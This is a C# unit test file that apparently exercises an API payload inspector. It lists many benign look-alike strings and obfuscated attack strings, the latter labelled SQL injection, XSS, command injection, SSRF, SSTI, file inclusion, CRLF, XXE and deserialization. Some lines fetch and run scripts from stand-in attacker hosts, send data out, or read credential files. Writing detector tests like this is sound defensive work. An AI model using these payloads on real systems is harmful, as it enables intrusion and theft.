using System.Text;
using ApiGuard.Inspection;

namespace ApiGuard.Tests.Inspection.Engine;

/// <summary>Hand-written hard benign values and obfuscated attack variants (none taken from the corpus).</summary>
public sealed class PayloadInspectorTests
{
    private readonly PayloadInspector _inspector = new();

    public static TheoryData<string> HardBenign() =>
    [
        "O'Brien",
        "metadata",
        "metadata/schema.json",
        "metadata.json",
        "metadata.csv",
        "select@example.org",
        "first.last+union@mail.example.com",
        "/srv/app/config/.gitignore",
        "C:/repos/site/.editorconfig",
        "&hellip;more",
        "Caf&eacute; &amp; Bar &mdash; open late",
        "java.lang.NullPointerException: name was null",
        "java.io.IOException",
        "   at System.Linq.Enumerable.First[TSource](IEnumerable`1 source)",
        "if+foo==",
        "ab+cd/ef+gh+ij==",
        "C++ and C# developers wanted",
        "+1-555-0100",
        "rated 5 as \"excellent\" from 200 reviews",
        "As a rule, we ship from Monday",
        ", and then some",
        "He said \"fine\";",
        "[ see ] (below)",
        "{{ 'Save' | translate }}",
        "{{ \"Hello world\" | upper | trim }}",
        "function() { return 1; }",
        "ok.\nI'd give it 4/5",
        "x;I'd say no",
        "*812#",
        "System.NullReferenceException: Object reference not set\n   at Shop.Orders.OrderService.Submit(Order order) in /src/OrderService.cs:line 42",
        "Where is my refund? I was told to select 'Other' from the dropdown and insert my order number.",
        "Here's how:\n\n```python\ndef add(a, b):\n    return a + b\n```",
        "$['first name']",
        "The constructor and prototype patterns are covered in chapter 4.",
        "https://example.com/search?q=why%3F",
        "https://example.com/tags?tag=c%23",
        "Python's subprocess module replaces os.system in new code.",
        "See 28 U.S.C. § 1332(a)(1) and Fed. R. Civ. P. 56(c)(2).",
        "The bound is $O(n \\log n)$ on average.",
        "Delete from my list the items I returned",
        "insert into the slot then turn clockwise",
        "A sleep(7) diary helps patients track rest.",
        "=SUM(A1:A3)",
        "=HYPERLINK(\"https://example.com/docs\",\"Docs\")",
        "-5 degrees tonight | windy",
        "Set ${HOME} in your profile",
        "Ping @(team) when done",
        "cos x is the adjacent side",
        "C:\\Users\\ann\\Documents\\hosts.txt",
        "Reason given: \"too slow\" (their words).",
        "javax.naming.NameNotFoundException: Name [jdbc/app] is not bound",
        "kontakt@bücher.example",
        "Drop Table Furniture Co.",
        "config/.env.example",
        "10.0.0.0/8",
        "I said \"no\"; return the parcel please",
        "this.value is read-only in the form",
        "db.example.com is down",
        "嘊嘍 are two characters",
        "The word 'order by' appears in the title.",
        "Ticket closed; id #4521 archived",
        "He said \"order by it\" and left.",
        "To: All staff\nFrom: HR\nSubject: Holidays",
        "From: ann@example.com\nTo: bob@example.com\nSubject: hi",
        "localhost",
        "Patrick O'Brien-Smith",
        "d'Artagnan and the three musketeers",
        "Please select one item from the list below",
        "Select the columns you want, then drop the rest.",
        "The union of two sets contains every element of either.",
        "Where were you when the union select committee met?",
        "I'll update the order by Friday -- promise!",
        "x < 10 and y > 3",
        "5 < 6, so we're fine",
        "Preferences > Privacy > Cookies",
        "Use the <b>bold</b> tag for emphasis",
        "He said \"drop it\" and left; everyone laughed.",
        "Tom & Jerry; Ben & Jerry's",
        "AT&T; Verizon; T-Mobile",
        "https://example.com/search?q=shoes&sort=price_desc&page=2",
        "https://api.example.com/v1/orders?status=open&limit=50#top",
        "C:\\Users\\alice\\Documents\\report.docx",
        "/var/www/html/index.html",
        "src/components/Button.tsx",
        "{\"name\":\"Alice\",\"tags\":[\"a\",\"b\"],\"age\":31}",
        "SGVsbG8sIFdvcmxkISBUaGlzIGlzIGEgcGxhaW4gbWVzc2FnZS4=",
        "dGhlIHF1aWNrIGJyb3duIGZveA==",
        "## Release notes\n- Fixed the `id` field\n- Added [docs](https://example.com/docs)",
        "Run `npm test` before you push.",
        "Costs $5 (about €4.60) per month",
        "50% off -- today only!",
        "Meeting at 10:30; bring the Q3 numbers (and coffee).",
        "email: o'reilly@example.com",
        "The script ran for 3 hours (longer than expected)",
        "if you like it then you should have put a ring on it",
        "for each item in the cart, apply the discount",
        "1 or 2 tablespoons of sugar",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        "rock 'n' roll",
        "It's 5 o'clock somewhere",
        "width=100&height=200",
        "2024-01-31T12:00:00Z",
        "user_12345",
        "Ação rápida — não é?",
        "日本語のテキスト",
        "Lamp shopping: \"Drop Table Lamp (Walnut)\" in stock?",
        "drop table lamp",
        "https://login.example.com/authorize?client_id=a&redirect_uri=http%3A%2F%2F127.0.0.1%3A53682%2Fcb&scope=openid",
        "Start the dev server, then open http://localhost:8080/admin in your browser",
        "modbus://10.1.4.20:502/unit/3",
        "mongodb://svc@localhost:27017/orders",
        "ldaps://ldap.example.org:636/ou=people,dc=example,dc=org",
        "sensors/+/cmd/restart",
        "ENTRYPOINT [\"dotnet\", \"App.dll\"] and CMD [\"--urls\", \"http://+:8080\"]",
        "Great food -- slow service",
        "cat /kitten names",
        "powershell or bash for beginners",
        "`dotnet build` fails on the CI agent",
        "the `confirm` dialog closes too early",
        "Why does my exec() call hang on Windows?",
        "fragment Hero on Character @include(if: $withHero) { name }",
        "Invoice (paid) (2).xlsx",
        "Is a while(true) loop ever fine in a worker?",
        "/bookstore/book[1]/title",
        "Rule 10b-5(b) & (c) of the Exchange Act",
        "{code}\n2025-01-02 03:04:05,678 WARN retrying\n{code}",
        "Shipping notes\nid card needed at pickup",
        "{{< youtube id=\"w7Ft2ymGmfc\" title=\"Launch\" >}}",
        "Dear {{ customer.first_name | capitalize | default: \"friend\" }}, your order ships {{ order.ship_date | date: \"%A, %B %-d\" }}.",
        "{\"or\":[{\"<\":[{\"var\":\"age\"},18]},{\"==\":[{\"var\":\"country\"},\"US\"]}]}",
        "proxy:\n  X-Request-Source: mobile\n  Authorization: none",
        "Clicking \"Create view\" in the dashboard editor does nothing for role 'Reader'.",
        "{{Infobox film\n| name = Heat (1995)\n| director = [[Michael Mann]]\n| released = {{Film date|1995|12|15}}}}",
        "Response rates were similar (n = 812; 95% CI 0.4–0.9) (see Appendix B).",
        "s3://lake-bucket/events/2025/*",
        "https://app.example.com/login?next=https%3A%2F%2F127.0.0.1%3A3000%2Fdashboard",
        "OBR|1|845512^LAB|77231^LAB|CBC^Complete blood count|||20250101083000|||||||||12345^SMITH^ANNA",
        "Condition?code=http://snomed.info/sct|44054006&onset-date=ge2020-01-01",
        "Amendment #3 (v1.2, 04-Feb-2025); IRB #448120",
        "{\"rules\":[{\"field\":\"status\",\"op\":\"in\",\"value\":[\"open\",\"pending\"]}],\"sort\":\"-created\"}",
        "Below pH 7 the solution is acidic; at pH 7 it is neutral.",
        "Accuracy = (TP + TN) / total, which is misleading on imbalanced data.",
        "include[]=author&include[]=comments.user",
        "../img/hero.webp",
        "« Newer | Older »  << Start | End >>",
        "//book[not(self::magazine)]",
        "sftp://files.bank-example.com:22/outbound/MT940_001.txt",
        "Where? Who? Why? — the 5 Ws of reporting",
        "Factorise: (3x + 2y)(x - y)",
        "Rust & coffee. Mods: @ana, @li",
        "Subject: Grades for term 2",
        "npm ERR! peer react@\">=16.8 <19\" from select2@1.0.0",
        "golang.org/x/net = { version = \">=2.0.0 <3.0.0 || >=3.1.0\", features = [\"derive\"] }",
        "TypeError: Cannot read properties of undefined (reading 'select')",
        "process.env.CI_JOB_ID ?? ''",
        "  File \"/home/runner/work/core/auth-service/cmd/cat-logs/main.go\", line 488, in unionAll",
        "  File \"/home/runner/work/platform/infra/.github/workflows/ci.yml\", line 870, in getUserById",
        "Write-Host (\"{0} items in {1}\" -f $n, $dir)",
        "$HOME$PATH",
        "I tried `npm ci && npm test` locally and it passes, but CI (`lint`) fails ~1 in 5 runs.",
        "Pipe output to `less` if it's long, e.g. `make test | less -R`.",
        "I'd avoid `exec()` here; `subprocess.run([...], check=True)` is safer & easier to test.",
        "if: ${{ always() && needs.build.result == 'success' }}",
        "Cache ~/.npm (key: ${{ hashFiles('**/package-lock.json') }})",
        "data:application/pdf;base64,JVBERi0xLjMKJcOiw6PDj8OT",
        "SUMMARY:Perf calibration - Payroll\nLOCATION:Bldg C, Rm 2.37\nDTSTART:20251210T110000Z",
        "Unhandled Runtime Error\nError: Hydration failed because the initial UI does not match.",
        "Salesforce Admin | ITIL v4 | PowerShell",
        "C#; JavaScript/TypeScript; PowerShell",
        "Bash/Zsh, T-SQL, PowerShell",
        "A&W Restaurants > Finance > Supply Chain > Procurement",
        "Signal failure @ Oslo S (OSL) (07:12–09:40); 33 trains cancelled",
        "Role = Editor | Scope = Marketing (EMEA)/*",
        "39 mod 5 = 4",
        "975191 OR SKU-67230 OR JK-541-BLK-6",
        "script font stencil +navy -\"final sale\"",
        "${STATION_ID}_${DATE}.csv",
        "{% if user.is_staff %}Admin{% endif %} {% url 'home' %}",
        "Tom's or Jerry's",
        "{!important} is not valid CSS",
        "message: \"{{ states('sensor.plc_12_temp') }} °C in boiler-room\"",
        "{\"query\": {\"$and\": [{\"site\": \"depot\"}, {\"area\": \"line-3\"}]}, \"limit\": 162}",
        "Maint note: kill switch tested OK; curl of the hose is too tight!",
        "<ul><li>open-source funding</li><li>exec pay &amp; more</li></ul>",
        "```bash\ncurl -s 'https://api.example.com/v1/articles?limit=10&page=4' | jq '.items[].title'\n```",
        "Tip: in bash, `cat file | grep x` can be `grep x file` — no useless use of cat.",
        "\"cat adoption rates\" -opinion",
        "<ol><li>Step 2: select &quot;Export&quot;</li></ol>",
        "/home/deck/.steam/steam/userdata/12778/730/local/cfg/autoexec.cfg",
        "/sys/class/thermal/thermal_zone3/temp",
        "<http://localhost:1880/ui/#!/5> shows the flows",
        "There's a video: <a href=\"https://www.youtube.com/watch?v=",
        "{{ products | map: \"title\" | join: \", \" }}",
        "drop table? nah, we flip tables here (╯°□°)╯",
        "update: the server is back, select 'EU West' from the list",
        "Hi, I set `export PATH=$HOME/bin:$PATH` in ~/.bashrc but it isn't picked up over SSH.",
        "net10.0;net8.0",
        "non-union",
        "SHUTDOWN",
        "Top customer: {{ top_customer | default('n/a') }}",
        "Revenue: {{ revenue | currency }} ({{ pct_change | round(1) }}% vs last month)",
        "{{ source('stripe', 'accounts') }}",
        "{{ config(materialized='table', unique_key='updated_at') }}",
        "{{ ref('mart_finance__pnl') }}",
        "${__from:date:iso} - ${__to:date:iso}",
        "models/staging/stg_orders.sql",
        "https://nodejs.org/api/child_process.html#child_processexeccommand-options-callback",
        "bash, exec, child_process",
        "what does ls -la | wc -l do exactly?",
        "index=web sourcetype=access_combined status>=500 | stats count by uri_path | sort -count | head 6",
        "select * from knowledge base about SOC 2 prep",
        "window.location vs document.location?",
        "document.querySelector('#app') gives me a different result than expected (expected 7, got 80). what am I missing",
        "css;grep;html",
        "refactor this so it's async: `module.exports = { run }`",
        "why does `process.env.NODE_ENV !== 'production'` throw here? using TypeScript",
        "const { spawn } = require(\"node:child_process\");",
        "| Option | Type | Default |\n|---|---|---|\n| `sort` | `string \\| null` | `null` |",
        "~/.cargo/registry/src/index.crates.io-67e4b068faf234dd/serde-1.0.1/src/lib.rs",
        "Drop table if exists (duplicate)",
        "DROP TABLE (SQLite docs)",
        "Requirements: 5+ yrs Go; experience with Node.js & React & Terraform & Ansible a plus",
        "Best way to bash ${var:-default} (without regex)?",
        "hold the mayo; make it vegan <3",
        "<go><iframe><wget><reactjs><npm>",
        "Timeout after 7s calling /v1/payments/57YARC4V (retry #5)",
        "\"nanny\" AND (remote OR hybrid) NOT senior",
        "Swift/SwiftUI; Bash scripting; AWS (S3, Lambda, IAM); PostgreSQL 15 + PostGIS; Go & gRPC",
        "Escalated to L2: statement export fails for date range Jun 2025 -> 03/04/2026; file 'stmt_722196.csv' empty.",
        "why isn't `<svg viewBox=\"0 0 24 24\">` centering my div?",
        "12-things-we-learned-from-the-union",
        "user.name@example.com",
        "npm ERR! code ERESOLVE\nnpm ERR! ERESOLVE unable to resolve dependency tree\nnpm ERR! peer react@\">=16.8 <19\" from x@1.0.0",
        "<math xmlns=\"http://www.w3.org/1998/Math/MathML\"><msup><mi>x</mi><mn>2</mn></msup><mo>&lt;</mo><mi>k</mi></math>",
        "<math display=\"block\"><munderover><mo>&#x2211;</mo><mrow><mi>i</mi><mo>=</mo><mn>0</mn></mrow><mi>n</mi></munderover></math>",
        "Why does this give NaN? `apply(m, 2, function(col) sd(col, na.rm = TRUE))`",
        "{{#if (and is_vip (gt points 3592))}}You unlocked a birthday gift{{/if}}",
        "{{#each (limit line_items 2)}}{{@index}}. {{this.title}}{{#unless @last}}, {{/unless}}{{/each}}",
        "Your code: {{{coupon_html}}} (valid until {{formatDate expires \"MMM D, YYYY\"}})",
        "{{> header}}\n<p>Hey {{capitalize first_name}}, {{insert discount \"default=10%\"}} off today.</p>\n{{> footer}}",
        "{{#equals plan \"pro\"}}Thanks for being a Pro member!{{else}}Upgrade to Pro for 20% off{{/equals}}",
        "IS_BEFORE({Created}, DATEADD(TODAY(), -41, 'days'))",
        "IF(IS_AFTER(NOW(), {End}), \"Closed\", \"Open\") & \" (\" & {Owner} & \")\"",
        "P&L (draft) (final).numbers",
        "=LAMBDA(x, IF(x<0, \"neg\", \"pos\"))(A2)",
        "Hi Dmitri -- thanks for reaching out! I've escalated ticket #97554 to our email team; expect a reply in < 24h.",
        "Chime: https://chime.aws/6353580022\nMeeting PIN: 3267194526\nOne-click (US): +1-206-462-5569,,,6561138937#",
        "/project/def-jdoe/climate/inputs/{train,val,test}.npz",
        "../data/astro/2024-07-17/plate775_A01-H12.csv",
        "\\input{chapter1} and \\include{appendix}",
        "http://my-app.nip.io/",
        "Agenda:\nattendees: Ana, Raj\nend: 5pm",
        "ipconfig /all shows DNS suffix 'corp.local' and IPv4 10.86.2.37 (Preferred)",
        "labels not in (update, like) OR reporter = \"select@example.com\"",
        "Status eq 'open' or Status eq 'pending'",
        "name==*select*,title!=select,title!=join",
        "$['select']['from'][?(@.length > 6)]",
        "https://example.com?ref=user@mail.com",
        "see http://a.com#@b.com in the report",
        "-exec summary attached",
        "Name eq 'O''Brien' or Price eq 20",
        "\"exec\" OR \"Widget #42\"",
        "Our team uses the 'exec' calendar for board meetings - can Anh O'Brien get delegate access?",
        "{\"location\":{\"$near\":{\"$geometry\":{\"type\":\"Point\",\"coordinates\":[17.56287,-74.78482]},\"$maxDistance\":667}}}",
        "{\"createdAt\":{\"$gte\":{\"$date\":\"2024-03-31\"},\"$lt\":{\"$date\":\"2026-01-01T00:00:00.000Z\"}}}",
        "=STDEV.S(C2:C18)/SQRT(COUNT(C2:C18))",
        "=SUMIF(D:D,\"<>\",F2:I)",
        "<style type=\"text/css\">@media only screen and (max-width:480px){ .mobile-full{width:100% !important;} }</style>",
        "<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml><![endif]-->",
        "@article{garcia2018,\n  author = {O'Brien, Kevin},\n  title = {{Null results in replication: 'p-hacking' revisited}},\n  year = {2022}\n}",
    ];

    public static TheoryData<string, InspectionCategory> Attacks() => new()
    {
        { "https://attacker.example/x.php", InspectionCategory.Rfi },
        { "is_readable('/etc/shadow')", InspectionCategory.Code },
        { "=sleep(5)", InspectionCategory.Sqli },
        { "admin' union select@@version--", InspectionCategory.Sqli },
        { "Name eq 'x' or 1 eq 1 or Name eq 'y'", InspectionCategory.Sqli },
        { "1*select*from users", InspectionCategory.Sqli },
        { "' union*select*from users--", InspectionCategory.Sqli },
        { "http://evil.tld#@api.strava.com/", InspectionCategory.Ssrf },
        { "http://evil.tld?@api.partner.example/v1", InspectionCategory.Ssrf },
        { "-o /tmp/x --exec i''d", InspectionCategory.Cmdi },
        { "-name x -exec sh -c id", InspectionCategory.Cmdi },
        { "price lt 20) or (1 eq 1", InspectionCategory.Sqli },
        { "x' or 'a' eq 'a'", InspectionCategory.Sqli },
        { "'select@@version--", InspectionCategory.Sqli },
        { "{\"price\": {\"$gt\": 0}}", InspectionCategory.Nosqli },
        { "{\"password\": {\"$gte\": {\"$date\": \"2024-03-31\"}}}", InspectionCategory.Nosqli },
        { "{\"$near\": {\"$geometry\": {\"type\": \"Point\"}}, \"$where\": \"sleep(100)\"}", InspectionCategory.Nosqli },
        { "wmic /node:x process call create calc", InspectionCategory.Cmdi },
        { "netstat /an and then the rest | findstr 4444", InspectionCategory.Cmdi },
        { "http://127-0-0-1.nip.io:2375/containers/json", InspectionCategory.Ssrf },
        { "http://attacker.example@169-254-169-254.nip.io/latest/meta-data/", InspectionCategory.Ssrf },
        { "Standup\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Password reset required", InspectionCategory.Crlf },
        { "Standup\nATTENDEE;RSVP=TRUE:mailto:attacker@evil.test", InspectionCategory.Crlf },
        { "\\immediate\\write18{id > /tmp/out}", InspectionCategory.Cmdi },
        { "\\csname input\\endcsname{|\"id\"}", InspectionCategory.Cmdi },
        { "test@example.com -be ${run{/bin/bash -c 'id > /tmp/pwn'}}", InspectionCategory.Cmdi },
        { "\"attacker\\\" -oQ/tmp/ -X/var/www/html/shell.php some\"@email.com", InspectionCategory.Cmdi },
        { "=1 union select 1", InspectionCategory.Sqli },
        { "<style>a{color:red !important}@import \"//evil.example/x.css\";</style>", InspectionCategory.Xss },
        { "<style>*{background:url(javascript:alert(1))}</style>", InspectionCategory.Xss },
        { "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>", InspectionCategory.Xss },
        { "; pip install evil-package", InspectionCategory.Cmdi },
        { "(\"sys\".\"tem\")(\"id\");", InspectionCategory.Code },
        { ";irb<<<1 2", InspectionCategory.Cmdi },
        { "; cat /etc/passwd > 1.txt", InspectionCategory.Cmdi },
        { "7-1#", InspectionCategory.Sqli },
        { "{cat,/etc/passwd}", InspectionCategory.Cmdi },
        { "{,ifconfig}", InspectionCategory.Cmdi },
        { "HtTpS://eViL.eXaMpLe/fw/PaYlOaD.pHp", InspectionCategory.Rfi },
        { "http://attacker.example/stylesheet.xsl", InspectionCategory.Rfi },
        { "https%253A%252F%252Fevil.example%252Fincludes%252Fconfig.inc", InspectionCategory.Rfi },
        { "{{#each this}}{{lookup this 'constructor'}}{{/each}}", InspectionCategory.Ssti },
        { "{{#with \"s\" as |string|}}{{#with \"e\"}}{{this.pop}}{{/with}}{{/with}}", InspectionCategory.Ssti },
        { "{{ printf \"%s\" (exec \"id\") }}", InspectionCategory.Ssti },
        { "{{ config.items ( ) }}", InspectionCategory.Ssti },
        { "{{#each this}}{{lookup this/constructor 'name'}}{{/each}}", InspectionCategory.Ssti },
        { "{{ settings.SECRET_KEY }}", InspectionCategory.Ssti },
        { "{{Null results: 'p-hacking' {{7*7}} revisited}}", InspectionCategory.Ssti },
        { "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", InspectionCategory.Xss },
        { "'-function(){alert(1)}()-'", InspectionCategory.Xss },
        { "Function('alert(1)')()", InspectionCategory.Xss },
        { "1' OR '1'='1", InspectionCategory.Sqli },
        { "admin'--", InspectionCategory.Sqli },
        { "1 UNION/**/SELECT username, password FROM users", InspectionCategory.Sqli },
        { "1%2527%2520OR%25201%253D1--", InspectionCategory.Sqli },
        { "1;WAITFOR DELAY '0:0:5'--", InspectionCategory.Sqli },
        { "x' AND extractvalue(1,concat(0x7e,version()))-- ", InspectionCategory.Sqli },
        { "１ ＵＮＩＯＮ ＳＥＬＥＣＴ １,２", InspectionCategory.Sqli },
        { "1/*!50000union*/ select 1,2", InspectionCategory.Sqli },
        { "'; DROP TABLE users; --", InspectionCategory.Sqli },
        { "1' and sleep/**/(5)#", InspectionCategory.Sqli },
        { "1' and benchmark /* x */ (5000000,md5(1))#", InspectionCategory.Sqli },
        { "1'\tunion\tselect\tpassword\tfrom\tusers--", InspectionCategory.Sqli },
        { "-1+UNION+SELECT+null,password+FROM+users--", InspectionCategory.Sqli },
        { "select@@version", InspectionCategory.Sqli },
        { "-1/**/union#--", InspectionCategory.Sqli },
        { "7-union", InspectionCategory.Sqli },
        { "1; SHUTDOWN WITH NOWAIT", InspectionCategory.Sqli },
        { "{{ source('/etc/passwd') }}", InspectionCategory.Ssti },
        { "{{ x | default('__class__') }}", InspectionCategory.Ssti },
        { "{{ config(x=lipsum.__globals__) }}", InspectionCategory.Ssti },
        { "import('child_process').then(m=>m.execSync('id'))", InspectionCategory.Code },
        { "/backup/db.sql", InspectionCategory.Lfi },
        { "127.0.0.1 | sh", InspectionCategory.Cmdi },
        { "1 | tee /var/www/html/x.php", InspectionCategory.Cmdi },
        { "x | grep pass *.php", InspectionCategory.Cmdi },
        { "select password from users limit 1", InspectionCategory.Sqli },
        { "document.querySelector(\"h1\").innerText=\"hacked\"", InspectionCategory.Xss },
        { "document.cookie", InspectionCategory.Xss },
        { "id;whoami;uname", InspectionCategory.Cmdi },
        { "module.exports = x => require('child_process').execSync(x)", InspectionCategory.Code },
        { "{{ process.env.AWS_SECRET_ACCESS_KEY }}", InspectionCategory.Code },
        { "const { exec } = require('child_process'); exec('id')", InspectionCategory.Code },
        { "drop table if exists users;", InspectionCategory.Sqli },
        { "x'; drop table if exists users--", InspectionCategory.Sqli },
        { "| a | b |\n|---|---|\n| x | y |\n; cat /etc/passwd", InspectionCategory.Cmdi },
        { "~/.cargo/credentials.toml", InspectionCategory.Lfi },
        { "$(id>/tmp/o)", InspectionCategory.Cmdi },
        { "{$smarty.version}", InspectionCategory.Ssti },
        { "c${u:-a}t /etc/passwd", InspectionCategory.Cmdi },
        { "x; cat < /etc/passwd", InspectionCategory.Cmdi },
        { "<a><b><iframe src=javascript:alert(1)>", InspectionCategory.Xss },
        { "timeout 7s /bin/sh", InspectionCategory.Cmdi },
        { "\" AND (1=1) --", InspectionCategory.Sqli },
        { "Swift; Bash scripting; AWS; curl evil.example/x.sh | sh", InspectionCategory.Cmdi },
        { "\" or (username) like \"%admin%\" --", InspectionCategory.Sqli },
        { ";trap 'rm -rf file.txt' SIGEXIT", InspectionCategory.Cmdi },
        { "; ${x:-id}", InspectionCategory.Cmdi },
        { "<meta charset=\"x-imap4-modified-utf7\">", InspectionCategory.Xss },
        { "<svg onload=alert(1)>", InspectionCategory.Xss },
        { "ext::sh -c touch% /tmp/pwned", InspectionCategory.Cmdi },
        { "report.csv & whoami & ", InspectionCategory.Cmdi },
        { "x\nnslookup x1.attacker.example", InspectionCategory.Cmdi },
        { "key\r\nCONFIG SET dir /var/www/html\r\nCONFIG SET dbfilename shell.php\r\n", InspectionCategory.Crlf },
        { "x from `information_schema`.`columns`", InspectionCategory.Sqli },
        { "42 AS \"cnt\" FROM accounts", InspectionCategory.Sqli },
        { ", substring('abc', 1, 1)", InspectionCategory.Sqli },
        { "user@example.com';", InspectionCategory.Sqli },
        { "[ passthru ] [ 0 ] ( id );", InspectionCategory.Code },
        { "{{ 'id' | filter('system') }}", InspectionCategory.Ssti },
        { "{{'7'*7}}", InspectionCategory.Ssti },
        { "{{ 'a' | upper }}{{ config.items() }}", InspectionCategory.Ssti },
        { "function() { while(true) {} }", InspectionCategory.Code },
        { "(function() { return this })()", InspectionCategory.Code },
        { "'; select 'x' from users--", InspectionCategory.Sqli },
        { "x; id #", InspectionCategory.Cmdi },
        { "x;sleep 10", InspectionCategory.Cmdi },
        { "x`uname -a`", InspectionCategory.Cmdi },
        { "a;w'h'o'a'm'i", InspectionCategory.Cmdi },
        { "user\r\nBcc: victim@example.com", InspectionCategory.Crlf },
        { "http://10.0.0.1:8500/v1/agent/self", InspectionCategory.Ssrf },
        { "//evil.example/inc.php?", InspectionCategory.Rfi },
        { "http://evil.example/shell.txt%00", InspectionCategory.Rfi },
        { "admin*)((|userPassword=*)", InspectionCategory.Ldapi },
        { "*(|(mail=*))", InspectionCategory.Ldapi },
        { "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZQ==", InspectionCategory.Code },
        { "__import__('os').popen('id').read()", InspectionCategory.Code },
        { "!!python/object/new:subprocess.check_output [['id']]", InspectionCategory.Code },
        { "class.module.classLoader.URLs[0]=0", InspectionCategory.Code },
        { "{\"constructor\": {\"prototype\": {\"isAdmin\": true}}}", InspectionCategory.Code },
        { "x;$'\\x77\\x68\\x6f\\x61\\x6d\\x69'", InspectionCategory.Cmdi },
        { "https://evil.example/payload.gif?.php", InspectionCategory.Rfi },
        { "..%u2216..%u2216..%u2216boot.ini", InspectionCategory.Lfi },
        { "'; delete from users--", InspectionCategory.Sqli },
        { "1; insert into admins values ('x','y')", InspectionCategory.Sqli },
        { "1 and sleep(5)", InspectionCategory.Sqli },
        { "$a(1)", InspectionCategory.Code },
        { "(system)('id')", InspectionCategory.Code },
        { "=cmd|' /C notepad'!A1", InspectionCategory.Code },
        { "+msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!A0", InspectionCategory.Code },
        { "=WEBSERVICE(\"http://evil.example/?d=\"&A2)", InspectionCategory.Code },
        { "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJsc5SFlFKULg==", InspectionCategory.Code },
        { "cposix\nsystem\n(S'ls'\ntR.", InspectionCategory.Code },
        { "${env:DATABASE_PASSWORD}", InspectionCategory.Ssti },
        { "@(7*7)", InspectionCategory.Ssti },
        { "& n^e^t u^s^e^r", InspectionCategory.Cmdi },
        { "/var/run/secrets/kubernetes.io/serviceaccount/token", InspectionCategory.Lfi },
        { "C:\\Windows\\System32\\drivers\\etc\\hosts", InspectionCategory.Lfi },
        { "x\\r\\nSet-Cookie: sid=attacker", InspectionCategory.Crlf },
        { "1; drop table users--", InspectionCategory.Sqli },
        { "'; DROP TABLE IF EXISTS orders; --", InspectionCategory.Sqli },
        { "/srv/app/.env.production", InspectionCategory.Lfi },
        { "http://10.0.0.5/admin", InspectionCategory.Ssrf },
        { "(\"system\") ('id')", InspectionCategory.Code },
        { "'; return this.password.length > 0; var y='", InspectionCategory.Nosqli },
        { "this.secret.match(/^a.*/)", InspectionCategory.Nosqli },
        { "db.accounts.remove({})", InspectionCategory.Nosqli },
        { "1' order by 3--", InspectionCategory.Sqli },
        { "x' group by password having 1=1--", InspectionCategory.Sqli },
        { "') order by name desc#", InspectionCategory.Sqli },
        { "%E5%98%8A%E5%98%8DLocation:%20https://evil.example/", InspectionCategory.Crlf },
        { "admin@example.com' or '1'='1", InspectionCategory.Sqli },
        { "<img\nsrc=x\nonerror=alert(1)>", InspectionCategory.Xss },
        { "for\t/f\t%a\tin\t('whoami')\tdo\techo\t%a", InspectionCategory.Cmdi },
        { "for\n/f\n%a\nin\n('whoami')\ndo\necho\n%a", InspectionCategory.Cmdi },
        { "Invoke-Expression+-Command+payload.ps1", InspectionCategory.Cmdi },
        { "/var/www/.git/config", InspectionCategory.Lfi },
        { "/home/app/.env.local", InspectionCategory.Lfi },
        { "java.lang.Runtime.getRuntime().exec('id')", InspectionCategory.Code },
        { "<script>alert(1)</script>", InspectionCategory.Xss },
        { "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", InspectionCategory.Xss },
        { "&lt;svg onload=alert(1)&gt;", InspectionCategory.Xss },
        { "&#x3C;iframe src=javascript:alert(1)&#x3E;", InspectionCategory.Xss },
        { "java&#x09;script:alert(document.domain)", InspectionCategory.Xss },
        { "\" autofocus onfocus=\"alert(1)", InspectionCategory.Xss },
        { "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", InspectionCategory.Xss },
        { "%u003Cscript%u003Ealert(1)%u003C/script%u003E", InspectionCategory.Xss },
        { "<div style=\"width: expression(alert(1))\">", InspectionCategory.Xss },
        { "; cat /etc/passwd", InspectionCategory.Cmdi },
        { "$(curl http://evil.example/x.sh|sh)", InspectionCategory.Cmdi },
        { "`whoami`", InspectionCategory.Cmdi },
        { "x|cat${IFS}/etc/passwd", InspectionCategory.Cmdi },
        { "& powershell -enc SQBFAFgA", InspectionCategory.Cmdi },
        { "../../../../etc/passwd", InspectionCategory.Lfi },
        { "..%252f..%252f..%252fwindows%252fwin.ini", InspectionCategory.Lfi },
        { "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow", InspectionCategory.Lfi },
        { "http://169.254.169.254/latest/meta-data/", InspectionCategory.Ssrf },
        { "metadata.google.internal/computeMetadata/v1/", InspectionCategory.Ssrf },
        { "metadata/computeMetadata/v1/instance", InspectionCategory.Ssrf },
        { "metadata.google.internal", InspectionCategory.Ssrf },
        { "metadata.internal:80/", InspectionCategory.Ssrf },
        { "http://2130706433/admin", InspectionCategory.Ssrf },
        { "http://0x7f.0.0.1:8080/", InspectionCategory.Ssrf },
        { "http://[::ffff:127.0.0.1]/", InspectionCategory.Ssrf },
        { "gopher://127.0.0.1:6379/_FLUSHALL", InspectionCategory.Ssrf },
        { "{{ ''.__class__.__mro__[1].__subclasses__() }}", InspectionCategory.Ssti },
        { "${${lower:j}${upper:n}di:ldap://x.example/a}", InspectionCategory.Ssti },
        { "${${env:NOPE:-j}ndi${env:NOPE:-:}rmi://x.example/a}", InspectionCategory.Ssti },
        { "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D", InspectionCategory.Ssti },
        { "<%= 7*7 %>", InspectionCategory.Ssti },
        { "*)(uid=*))(|(uid=*", InspectionCategory.Ldapi },
        { "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>", InspectionCategory.Xxe },
        { "value\r\nSet-Cookie: session=attacker", InspectionCategory.Crlf },
        { "x\r\nSet-Cookie:\tsession=attacker", InspectionCategory.Crlf },
        { "value%0d%0aLocation:%20http://evil.example", InspectionCategory.Crlf },
        { "{\"username\": {\"$ne\": null}, \"password\": {\"$ne\": null}}", InspectionCategory.Nosqli },
